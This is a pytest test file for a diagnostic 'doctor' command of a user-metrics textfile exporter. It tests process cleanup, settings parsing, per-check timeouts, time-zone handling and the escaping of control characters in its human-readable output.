def test_what_a_child_starts_ends_with_it(tmp_path: Path) -> None:
    mark = tmp_path / "pid"
    with pytest.raises(ChildFailed):
        in_child(lambda: run_tool(["sh", "-c", f"echo $$ >{mark}; exec sleep 60"], 60), 1)
    pid = int(mark.read_text())
    for _ in range(100):
        stat = Path(f"/proc/{pid}/stat")
        if not stat.exists() or ") Z " in stat.read_text():
            return
        time.sleep(0.05)
    pytest.fail("it lives on")


def test_tools() -> None:
    assert run_tool(["sh", "-c", "echo $TZ $LC_ALL"], 5) == "UTC C\n"
    with pytest.raises(ChildFailed, match="there is no nosuchtool"):
        run_tool(["nosuchtool"], 5)
    with pytest.raises(ChildFailed, match="sh: told"):
        run_tool(["sh", "-c", "echo told >&2; exit 1"], 5)
    with pytest.raises(ChildFailed, match="timed out"):
        run_tool(["sleep", "60"], 0.1)


def test_memberships() -> None:
    group = b"adm:x:4:syslog,textfile-users\nutmp:x:43:not-textfile-users\n"
    group += b"x:x:no:textfile-users\nusers:x:100:alice\n"
    assert find_memberships(group, "textfile-users") == {4}


# --- the whole


def test_the_file_system_of_a_host(tmp_path: Path) -> None:
    """Another host's, as a container sees it, with everything there."""
    findings = _examine(tmp_path)
    assert [finding for finding in findings.values() if finding["status"] == FAULT] == []
    assert findings["container"]["found"].startswith("a whole host below")
    assert findings["logind"]["status"] == OK


def _examine(tmp_path: Path, *argv: str, status: int = 0) -> dict[str, dict[str, str]]:
    """Return doctor's findings on a host of ours by check."""
    root = Root(str(tmp_path / "host"))
    root.no_sessions()
    root.write("run/systemd/system/x", "")
    root.utmp()
    root.write("proc/net/tcp", "  sl  local_address rem_address\n")
    (tmp_path / "state").mkdir(mode=0o700, exist_ok=True)
    output = tmp_path / "users.prom"
    output.write_text(f"# x\nusers_run_timestamp_seconds {time.time()}\n")
    output.chmod(0o644)
    state = str(tmp_path / "state")
    command = [
        "doctor", "--json", "--root", root.root, "--output", str(output), "--timeout", "60",
        "--state-directory", state, "--runtime-directory", state, *argv,
    ]  # fmt: skip
    captured = _capture(command)
    assert captured[0] == status, captured[1]
    return {finding["check"]: finding for finding in json.loads(captured[1])}


def _capture(argv: list[str]) -> tuple[int, str]:
    import contextlib
    import io

    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        status = main(argv)
    return status, out.getvalue()


@pytest.fixture(autouse=True)
def _in_a_container(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr(module, "read_mark", lambda: "/.dockerenv")
    yield


def test_a_state_directory_of_others_is_told(tmp_path: Path) -> None:
    (tmp_path / "state").mkdir()
    (tmp_path / "state").chmod(0o755)
    finding = _examine(tmp_path, status=1)["state directory"]
    closing = f"chmod 700 {tmp_path}/state"
    assert finding["mend"] == (closing if os.geteuid() else places.ANOTHER)


def test_no_command_is_for_another_host(tmp_path: Path) -> None:
    """Here it would change this machine; what is the program's own is here."""
    findings = _examine(
        tmp_path, "--utmp", f"{tmp_path}/none", "--runtime-directory", f"{tmp_path}/gone", status=1
    )
    assert findings["logind"]["status"] == OK
    settings = tmp_path / "host/etc/default/textfile-users"
    settings.parent.mkdir(parents=True, exist_ok=True)
    settings.write_text("nonsense\n")
    findings = _examine(tmp_path, status=1)
    assert (findings["settings"]["status"], findings["settings"]["mend"]) == (FAULT, "")
    assert findings["user"]["found"].endswith("where doctor names it")
    assert not {"node_exporter", "scrape", "schedule"} & findings.keys()
    assert findings["textfile directory"]["status"] == OK


def test_the_callers_time_zone_is_not_the_units(monkeypatch: pytest.MonkeyPatch) -> None:
    seen = []

    def examine(_: object) -> list[CheckResult]:
        seen.append(os.environ.get("TZ"))
        return []

    monkeypatch.setattr(module, "examine", examine)
    service = USER._replace(user="textfile-users")
    monkeypatch.setattr(module, "_service_identity", lambda: service)
    for user in ("alice", "textfile-users"):
        monkeypatch.setattr(module, "_identity", lambda _, user=user: USER._replace(user=user))
        monkeypatch.setenv("TZ", "Mars/Base")
        module.doctor(checked().options, as_json=True)
    assert seen == ["Mars/Base", None]
    monkeypatch.setenv("TZ", "Mars/Base")
    other = checked("--root", "/nonexistent")
    assert [f for f in clock.check_clock(other) if f.status == FAULT] == [], "it has its own zone"


def test_a_check_that_fails_or_hangs_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(_: object) -> list[CheckResult]:
        raise ValueError("odd")

    def hang(_: object) -> list[CheckResult]:
        time.sleep(60)
        return []

    monkeypatch.setattr(module, "TOTAL_SECONDS", 0.0)
    monkeypatch.setattr(module, "MIN_SECONDS", 0.5)
    monkeypatch.setattr(module, "CHECKS", (("one", fail), ("two", hang)))
    findings = _examine(tmp_path, status=1)
    assert findings["one"]["found"] == "the check itself failed: ValueError: odd"
    assert findings["two"]["found"] == "the check itself failed: no answer within 0.5 s"


def test_lines_for_people() -> None:
    findings = [
        CheckResult("clock", OK, "set"),
        CheckResult("node_exporter", NOTE, "pid 9 of \x1b[31mmallory"),
        CheckResult("textfile directory", FAULT, "gone", "install -d x\ny"),
    ]
    assert module.format_findings(findings, colour=False).split("\n") == [
        "ok     clock               set",
        "note   node_exporter       pid 9 of \\x1b[31mmallory",
        "FAULT  textfile directory  gone",
        "    mend: install -d x\\ny",
    ]
    coloured = module.format_findings(findings, colour=True)
    assert "\x1b[31mFAULT\x1b[0m" in coloured
    assert "\x1b[33mnote \x1b[0m" in coloured
    assert coloured.startswith("ok ")


def test_ages() -> None:
    assert [age(seconds) for seconds in (3, 119, 120, 7200, 2 * 86_400)] == [
        "3 s", "119 s", "2 min", "2 h", "2 d",
    ]  # fmt: skip


def test_the_service_s_settings_and_directories_are_taken(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Options that are given add to them, so that a flag does not make it judge another set-up."""

    def settings(text: str) -> None:
        values, faults = parse_settings(text)
        monkeypatch.setattr(by_hand, "read_settings", lambda _: (dict(values), faults))

    service = Service("textfile-users", "/x", "/y")
    monkeypatch.setattr(by_hand, "find_service", lambda: service)
    monkeypatch.delenv("TEXTFILE_DIRECTORY", raising=False)
    monkeypatch.setenv("STATE_DIRECTORY", "/before")
    settings('TEXTFILE_DIRECTORY=/srv/textfile\nOPTIONS="--all-users --interval 9"\n')
    for argv in ([], ["--json"], ["--timeout", "7"]):
        values = by_hand.parse_for_doctor(argv)
        assert (values.all_users, values.interval) == (True, 9)
        assert (values.state_directory, values.runtime_directory) == ("/x", "/y")
        assert os.environ["TEXTFILE_DIRECTORY"] == "/srv/textfile"
    assert by_hand.parse_for_doctor(["--state-directory", "/z"]).state_directory == "/z"
    settings('OPTIONS="--all-users --state-directory /own"\n')
    assert by_hand.parse_for_doctor([]).state_directory == "/own"
    settings("OPTIONS=--no-such-option\n")
    assert not by_hand.parse_for_doctor([]).all_users
    assert capsys.readouterr().err == ""  # a check tells of it


def test_a_group_is_named_by_its_number() -> None:
    """Not by the user who has the same number: 4 is sync among Debian's users, adm among groups."""
    for group in grp.getgrall():
        assert access.group_name(group.gr_gid) == grp.getgrgid(group.gr_gid).gr_name
